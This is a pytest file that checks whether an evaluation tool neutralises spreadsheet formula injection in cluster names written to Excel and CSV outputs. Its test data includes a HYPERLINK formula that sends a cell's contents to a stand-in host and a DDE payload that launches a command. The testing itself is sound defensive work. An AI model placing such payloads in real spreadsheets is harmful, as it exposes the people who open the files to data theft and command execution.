"""A cluster named like a formula stays a name in everything that is written of it."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from evaluating import observed, run, unpictured  # noqa: F401

LINK = '=HYPERLINK("http://example.com/?"&B2,"details")'
LIVE = ("=", "+", "@", "\t", "\r")


@pytest.mark.usefixtures("unpictured")
def test_an_evaluation_of_a_cluster_named_like_a_formula_writes_none(tmp_path: Path) -> None:
    table = observed().replace({"cluster": {"jewelry": LINK, "food_beverage": "@SUM(1+1)*cmd|'/C calc'!A0"}})
    table.to_excel(tmp_path / "mine.xlsx", index=False)
    plain_text(tmp_path / "mine.xlsx")
    assert run("evaluate", tmp_path / "mine.xlsx", "--out", tmp_path / "out") == 0
    book = openpyxl.load_workbook(tmp_path / "out" / "evaluation.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert LINK in {cell.value for cell in cells}
    files = list((tmp_path / "out").glob("*.csv"))
    assert len(files) >= 3
    for file in files:
        with file.open(encoding="utf-8-sig", newline="") as text:
            texts = [cell for row in csv.reader(text) for cell in row]
        assert not [cell for cell in texts if cell.startswith(LIVE)], file
    assert pd.read_csv(tmp_path / "out" / "synergy.csv")["cluster"].str.startswith("'=HYPERLINK").any()


def plain_text(path: Path) -> None:
    """Store every text of a workbook as text, as a user's own would."""
    book = openpyxl.load_workbook(path)
    for row in book.active.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"
    book.save(path)


@pytest.mark.usefixtures("unpictured")
def test_weights_that_an_evaluation_wrote_can_be_given_back_whatever_its_clusters_are_called(tmp_path: Path) -> None:
    table = observed().replace({"cluster": {"jewelry": "-x", "food_beverage": "=y"}})
    table.to_csv(tmp_path / "mine.csv", index=False)
    assert run("evaluate", tmp_path / "mine.csv", "--out", tmp_path / "out") == 0
    weights = tmp_path / "out" / "weights.csv"
    assert "'=y" in weights.read_text(encoding="utf-8")
    assert run("evaluate", tmp_path / "mine.csv", "--weights", weights, "--out", tmp_path / "again") == 0
